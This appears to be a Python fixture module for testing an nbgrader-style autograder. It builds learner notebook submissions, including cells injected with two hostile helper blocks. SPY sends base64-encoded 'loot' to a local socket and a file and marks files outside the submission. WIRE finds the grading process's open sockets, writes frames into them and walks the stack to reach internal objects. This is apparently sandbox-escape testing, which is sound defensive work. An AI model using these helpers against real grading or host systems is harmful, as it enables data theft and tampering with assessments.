"""What a case edits: a learner's copy of the released notebook, and the folder it is handed in as."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

from course import BY_NAME, NAMES, RIGHT, WRITTEN, WRONG, read_release
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell

SPY = '''
def _out(*things):
    """Three ways out for what was found: the cell's output, a file beside the notebook, a port of this machine."""
    import base64
    import socket

    for thing in things:
        text = "LOOT[" + WHO + ":" + base64.b64encode(str(thing).encode("utf8", "replace")[:90000]).decode() + "]"
        try:
            print(text)
        except BaseException:
            pass
        try:
            open("loot.txt", "a").write(text + "\\n")
        except BaseException:
            pass
        try:
            with socket.create_connection(("127.0.0.1", 39999), 1) as line:
                line.sendall(text.encode() + b"\\n")
        except BaseException:
            pass


def _mark(path):
    """Leaves a mark in a file that is not the learner's."""
    import os

    try:
        path = os.path.expanduser(path)
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        open(path, "a").write("\\nESC" + "APED[" + WHO + "]\\n")
    except BaseException:
        pass
'''

WIRE = """
import os, socket, stat


def sockets():
    found = []
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                found.append(fd)
        except OSError:
            pass
    return found


def send(fd, data):
    try:
        os.write(fd, data) if len(data) < 4096 else socket.socket(fileno=os.dup(fd)).sendall(data)
    except OSError:
        pass


def frame(tree):
    import struct
    try:
        import msgpack
        data = msgpack.packb(tree)
    except ImportError:
        import json
        data = json.dumps(tree, default=str).encode()
    return struct.pack(">I", len(data)) + data


def the_line():
    import gc, sys
    frame = sys._getframe(1)
    while frame:
        for thing in frame.f_locals.values():
            if type(thing).__name__ == "Line" and type(thing).__module__.startswith("log2attn"):
                return thing
            if type(getattr(thing, "line", None)).__name__ == "Line":
                return thing.line
        frame = frame.f_back
    for thing in gc.get_objects():
        if type(thing).__name__ == "Line" and type(thing).__module__.startswith("log2attn"):
            return thing
    return None
"""


class Unfit(Exception):  # noqa: N818  (not a fault: a case that this machine cannot try)
    """Why a case cannot be tried here."""


class Submission:
    """``name`` is the learner's; ``folder`` is what is handed in. ``raw`` replaces the notebook's bytes; ``filename`` None: write no notebook."""

    def __init__(self, course: Path, name: str) -> None:
        self.name = name
        self.folder = course / "submitted" / name / "ps1"
        self.folder.mkdir(parents=True)
        self.notebook: NotebookNode = read_release(course)
        self.raw: bytes | None = None
        self.filename: str | None = "ps1.ipynb"

    @property
    def cells(self) -> list[NotebookNode]:
        return self.notebook.cells

    def cell(self, id: str) -> NotebookNode:
        return next(cell for cell in self.cells if cell.get("id") == id)

    def at(self, id: str) -> int:
        return next(i for i, cell in enumerate(self.cells) if cell.get("id") == id)

    def tests(self) -> list[NotebookNode]:
        return [cell for cell in self.cells if str(cell.get("id", "")).startswith(("visible-", "hidden-"))]

    def graded(self) -> list[NotebookNode]:
        """All cells that nbgrader knows."""
        return [cell for cell in self.cells if "nbgrader" in cell.metadata]

    def right(self, *names: str) -> None:
        for name in names or NAMES:
            self.cell(name).source = RIGHT[name]
        if not names:
            self.cell(WRITTEN).source = "Because I thought about it."

    def wrong(self, *names: str) -> None:
        for name in names or NAMES:
            self.cell(name).source = WRONG[name]

    def body(self, name: str, code: str) -> None:
        """The learner's function, with this body. {right} in it stands for the right answer under the name _right."""
        if "{right}" in code:
            right = RIGHT[name].replace(f"def {name}(", f"def _right_{name}(", 1)
            self.cell(name).source = (
                right + "\n\n\n" + BY_NAME[name].code(code.replace("{right}", f"_right_{name}"))
            )
        else:
            self.cell(name).source = BY_NAME[name].code(code)

    def before(self, code: str) -> None:
        """A cell of the learner's own after the imports."""
        self.cells.insert(self.at("imports") + 1, new_code_cell(code))

    def spy(self, code: str) -> None:
        """As before, with the helpers that carry loot out and leave marks."""
        self.before(f"WHO = {self.name!r}\n{SPY}\n{code}")

    def wire(self, code: str) -> None:
        """As before, with helpers that find the sockets of the process and write frames into them."""
        self.before(f"WHO = {self.name!r}\n{WIRE}\n{code}")

    def friend(self) -> Submission:
        """Another learner, graded earlier, who works together with this one."""
        return Submission(self.folder.parents[2], f"a-friend-of-{self.name}")

    def after(self, code: str) -> None:
        self.cells.append(new_code_cell(code))

    def below(self, id: str, code: str) -> None:
        self.cells.insert(self.at(id) + 1, new_code_cell(code))

    def above(self, id: str, code: str) -> None:
        self.cells.insert(self.at(id), new_code_cell(code))

    def new(self, code: str) -> NotebookNode:
        return new_code_cell(code)

    def note(self, text: str) -> None:
        self.cells.append(new_markdown_cell(text))

    def file(self, path: str, data: str | bytes) -> None:
        to = self.folder / path
        to.parent.mkdir(parents=True, exist_ok=True)
        to.write_bytes(data if isinstance(data, bytes) else data.encode("utf8", "surrogateescape"))

    def data(self) -> dict[str, Any]:
        return json.loads(json.dumps(copy.deepcopy(self.notebook)))

    def dump(self, data: Any) -> None:
        """This JSON is the notebook's text, whatever nbformat thinks of it."""
        self.raw = json.dumps(data, indent=1).encode()

    def save(self) -> None:
        if self.filename is not None:
            self.file(
                self.filename,
                self.raw if self.raw is not None else json.dumps(self.notebook, indent=1).encode(),
            )
